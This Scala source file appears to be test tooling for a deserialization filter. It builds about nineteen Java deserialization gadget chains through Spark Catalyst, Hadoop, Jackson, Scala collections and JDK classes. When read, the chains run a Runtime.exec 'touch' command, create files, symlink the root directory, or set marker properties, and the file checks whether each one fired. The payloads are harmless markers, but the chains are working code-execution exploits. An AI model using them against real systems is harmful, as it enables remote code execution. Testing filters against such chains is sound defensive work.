package gadget

import java.io.ObjectStreamClass
import java.lang.annotation.Retention
import java.lang.reflect.{Field, InvocationHandler, Proxy}
import java.nio.file.{Files, Path}
import java.util.{
  ArrayList => JArrayList,
  Collections,
  Comparator,
  HashMap => JHashMap,
  LinkedHashMap => JLinkedHashMap,
  PriorityQueue
}
import javax.management.BadAttributeValueExpException

import scala.collection.View
import scala.collection.concurrent.TrieMap
import scala.collection.immutable.{LazyList, TreeMap, TreeSet}
import scala.collection.mutable
import scala.jdk.CollectionConverters._
import scala.jdk.FunctionWrappers.AsJavaFunction
import scala.util.hashing.Hashing

import com.fasterxml.jackson.databind.node.POJONode
import org.apache.hadoop.io.ObjectWritable

import org.apache.spark.SerializableWritable
import org.apache.spark.sql.catalyst.InternalRow
import org.apache.spark.sql.catalyst.encoders.ExpressionEncoder
import org.apache.spark.sql.catalyst.expressions.{
  Ascending,
  Expression,
  GenericInternalRow,
  If,
  InterpretedOrdering,
  IsNull,
  Literal,
  SortOrder
}
import org.apache.spark.sql.catalyst.expressions.codegen.LazilyGeneratedOrdering
import org.apache.spark.sql.catalyst.expressions.objects.{Invoke, NewInstance, StaticInvoke}
import org.apache.spark.sql.types.{IntegerType, ObjectType}

/**
 * Objects that run code when a driver reads them, of classes that every driver has: what a filter
 * that allows packages lets through. Each does no more than leave a mark, or an empty file.
 *
 * @param build makes the object, which leaves its mark, or that file, when it is read and not
 *              before
 * @param sign  the system property that is its mark, where it can leave no other
 */
final case class Chain(
    name: String,
    build: (String, Path) => AnyRef,
    sign: Option[String] = None) {
  def mark: String = sign.getOrElse(s"coffer.gadget.$name")
}

object Chains {
  val all: Seq[Chain] = Seq(
    // The one that an audit ran: a comparator of Catalyst's that calls any method.
    Chain("queue-of-rows-exec", (_, file) => queue(ordering(exec(file)))),
    Chain("queue-of-rows", (mark, _) => queue(ordering(marking(mark)))),
    Chain("queue-of-rows-generated-code",
      (mark, _) => queue(new LazilyGeneratedOrdering(Seq(order(marking(mark)))))),
    Chain("queue-of-rows-new-file", (_, file) => queue(ordering(newFile(file)))),
    Chain("scala-queue-of-rows", (mark, _) => scalaQueue(ordering(marking(mark)))),
    Chain("tree-map-of-rows", (mark, _) => treeMap(ordering(marking(mark)))),
    Chain("tree-set-of-rows", (mark, _) => treeSet(ordering(marking(mark)))),
    Chain("reversed-comparator",
      (mark, _) => queue(Collections.reverseOrder(ordering(marking(mark))))),
    Chain("comparator-by-key", (mark, _) => queue(byKey(marking(mark)))),
    Chain("lazy-list-as-key", (mark, _) => keyed(LazyList.from(rows).map(decoder(marking(mark))))),
    Chain("view-as-key",
      (mark, _) => keyed(LazyList[Any](1).appendedAll(new View.Map(rows, decoder(marking(mark)))))),
    Chain("ivy-copy", (_, file) => keyed(LazyList.from(rows).map(decoder(ivyLink(file))))),
    // Hadoop looks up what is named, and has any class initialised by it.
    Chain("hadoop-writable",
      (_, _) => new SerializableWritable(new ObjectWritable(notYet(JETTY), null)),
      Some("jetty.git.hash")),
    Chain("externalizable", (mark, _) => hashedRelation(queue(ordering(marking(mark))))),
    Chain("proxy-of-an-annotation", (mark, _) => annotation(queue(ordering(marking(mark))))),
    Chain("trie-map", (mark, _) => trieMap(decoder(marking(mark)))),
    Chain("inside-a-list", (mark, _) => Some(List(Array[AnyRef](queue(ordering(marking(mark))))))),
    Chain("inside-a-collection",
      (mark, _) => new JArrayList[AnyRef](Collections.singleton(queue(ordering(marking(mark))))))
  ) ++ Option.when(hasAnyValue)(
    Chain("jackson-node", (mark, _) => shown(pojo(marking(mark)))))

  private val rows: List[InternalRow] =
    List(new GenericInternalRow(Array[Any]("Aa")), new GenericInternalRow(Array[Any]("BB")))

  // ---- what is called --------------------------------------------------------------------------

  private def string(text: String): Expression = Literal.create(text, ObjectType(classOf[String]))
  private def number(effect: Expression): Expression = If(IsNull(effect), Literal(1), Literal(2))
  private def order(effect: Expression): SortOrder = SortOrder(effect, Ascending)
  private def ordering(effect: Expression): InterpretedOrdering =
    new InterpretedOrdering(Seq(order(effect)))

  private def marking(mark: String): Expression = number(
    StaticInvoke(classOf[System], ObjectType(classOf[String]), "setProperty",
      Seq(string(mark), string("ran"))))

  private def exec(file: Path): Expression = number(Invoke(
      StaticInvoke(classOf[Runtime], ObjectType(classOf[Runtime]), "getRuntime"),
      "exec",
      ObjectType(classOf[Process]),
      Seq(string(s"touch $file"))))

  private def newFile(file: Path): Expression = number(
    NewInstance(classOf[java.io.FileOutputStream], Seq(string(file.toString)),
      ObjectType(classOf[java.io.FileOutputStream])))

  private def path(of: Path): Expression =
    NewInstance(classOf[java.io.File], Seq(string(of.toString)), ObjectType(classOf[java.io.File]))

  private def ivyLink(file: Path): Expression = number(StaticInvoke(
      classOf[org.apache.ivy.util.FileUtil],
      IntegerType,
      "symlink",
      Seq(path(Path.of("/")), path(file), Literal(true))))

  /** A function that is no closure: it evaluates an expression. */
  private def decoder(effect: Expression): InternalRow => AnyRef =
    new ExpressionEncoder.Deserializer[AnyRef](Seq(effect))

  // ---- what calls it on reading ----------------------------------------------------------------

  private def set(of: AnyRef, field: String, value: AnyRef): Unit = {
    def find(c: Class[_]): Field =
      try c.getDeclaredField(field)
      catch {
        case e: NoSuchFieldException =>
          if (c.getSuperclass == null) throw e else find(c.getSuperclass)
      }
    val found = find(of.getClass)
    found.setAccessible(true)
    found.set(of, value)
  }

  private val none: Comparator[AnyRef] = (_: AnyRef, _: AnyRef) => 0

  private def queue(by: AnyRef): AnyRef = {
    val queue = new PriorityQueue[AnyRef](2, none)
    rows.foreach(queue.add)
    set(queue, "comparator", by)
    queue
  }

  private object AllEqual extends Ordering[InternalRow] {
    override def compare(a: InternalRow, b: InternalRow): Int = a.hashCode.compare(b.hashCode)
  }
  private val distinct: Seq[InternalRow] =
    Seq(new GenericInternalRow(Array[Any]("a")), new GenericInternalRow(Array[Any]("b")))

  private def scalaQueue(by: Ordering[InternalRow]): AnyRef = {
    val queue = mutable.PriorityQueue.from(distinct)(AllEqual)
    set(queue, "ord", by)
    queue
  }

  private def treeMap(by: Ordering[InternalRow]): AnyRef = {
    val map = TreeMap.from(distinct.map(_ -> "value"))(AllEqual)
    set(map, "ordering", by)
    map
  }

  private def treeSet(by: Ordering[InternalRow]): AnyRef = {
    val tree = TreeSet.from(distinct)(AllEqual)
    set(tree, "ordering", by)
    tree
  }

  /** Its keys have one hash, so that reading compares them. */
  private def byKey(effect: Expression): AnyRef =
    Comparator.comparing[InternalRow, String](
      AsJavaFunction(decoder(effect)).asInstanceOf[java.util.function.Function[InternalRow,
        String]])

  private val JETTY = "org.sparkproject.jetty.util.Jetty"

  private def notYet(name: String): Class[_] =
    Class.forName(name, false, getClass.getClassLoader)

  private val unsafe = Class.forName("sun.misc.Unsafe")
  private lazy val theUnsafe: AnyRef = {
    val field = unsafe.getDeclaredField("theUnsafe")
    field.setAccessible(true)
    field.get(null)
  }

  /** Sets a field, of whatever type and module. */
  private def force(of: AnyRef, field: String, value: AnyRef): Unit = {
    val offset = unsafe.getMethod("objectFieldOffset", classOf[Field])
    val put = unsafe.getMethod("putObject", classOf[AnyRef], classOf[Long], classOf[AnyRef])
    put.invoke(theUnsafe, of, offset.invoke(theUnsafe, of.getClass.getDeclaredField(field)), value)
  }

  /** An object of a class that has no constructor for this. */
  private def forged(of: Class[_], fields: (String, AnyRef)*): AnyRef = {
    val made = unsafe.getMethod("allocateInstance", classOf[Class[_]]).invoke(theUnsafe, of)
    fields.foreach { case (name, value) => force(made, name, value) }
    made
  }

  /** It reads whatever object is in the place of its map, before it looks what that is. */
  private def hashedRelation(inside: AnyRef): AnyRef =
    forged(notYet("org.apache.spark.sql.execution.joins.LongHashedRelation"), "map" -> inside)

  /** Has objects of a class sent as they are, and none in their place. */
  private def asItIs(c: Class[_]): Unit = {
    val replaced = classOf[ObjectStreamClass].getDeclaredField("writeReplaceMethod")
    replaced.setAccessible(true)
    replaced.set(ObjectStreamClass.lookup(c), null)
  }

  /** As text it is JSON of what it holds: a collection that computes its elements for that. */
  private def pojo(effect: Expression): AnyRef = {
    // Else it is sent as its text, made before it is read.
    asItIs(classOf[POJONode])
    new POJONode(LazyList.from(rows).map(decoder(effect)).asJava)
  }

  /** Later JDKs have a text for a value there. */
  private def hasAnyValue: Boolean =
    classOf[BadAttributeValueExpException].getDeclaredField("val").getType == classOf[AnyRef]

  /** Its value is shown as text when it is read. */
  private def shown(value: AnyRef): AnyRef = {
    val exception = new BadAttributeValueExpException(null)
    force(exception, "val", value)
    exception
  }

  /** A proxy, whose handler is read with it, and with the handler what it holds. */
  private def annotation(value: AnyRef): AnyRef = {
    val values = new JLinkedHashMap[String, AnyRef]()
    values.put("value", value)
    val handler = forged(
      notYet("sun.reflect.annotation.AnnotationInvocationHandler"),
      "type" -> classOf[Retention],
      "memberValues" -> values)
    Proxy.newProxyInstance(
      getClass.getClassLoader,
      Array(classOf[Retention]),
      handler.asInstanceOf[InvocationHandler])
  }

  private def trieMap(hash: InternalRow => AnyRef): AnyRef = {
    asItIs(classOf[TrieMap[_, _]])
    // Reading drops the first key, and takes its value for one.
    val map = TrieMap.from(distinct.map(row => row -> row))
    set(map, "hashingobj",
      Hashing.fromFunction[InternalRow](hash.asInstanceOf[InternalRow => Int]))
    map
  }

  /** A map whose key has its elements computed when its hash is asked for, which reading does. */
  private def keyed(key: AnyRef): AnyRef = {
    val map = new JHashMap[AnyRef, AnyRef]()
    map.put("key", "value")
    val table = classOf[JHashMap[_, _]].getDeclaredField("table")
    table.setAccessible(true)
    table.get(map).asInstanceOf[Array[AnyRef]].filter(_ != null).foreach(set(_, "key", key))
    map
  }

  /** Whether a chain ran: its mark or its file is there. `exec` takes a moment. */
  def ran(mark: String, file: Path, wait: Boolean): Boolean = {
    val deadline = System.nanoTime() + (if (wait) 10000000000L else 0L)
    def now: Boolean = Mark.left(mark) ||
      Files.exists(file, java.nio.file.LinkOption.NOFOLLOW_LINKS)
    while (!now && System.nanoTime() < deadline) Thread.sleep(20)
    now
  }
}
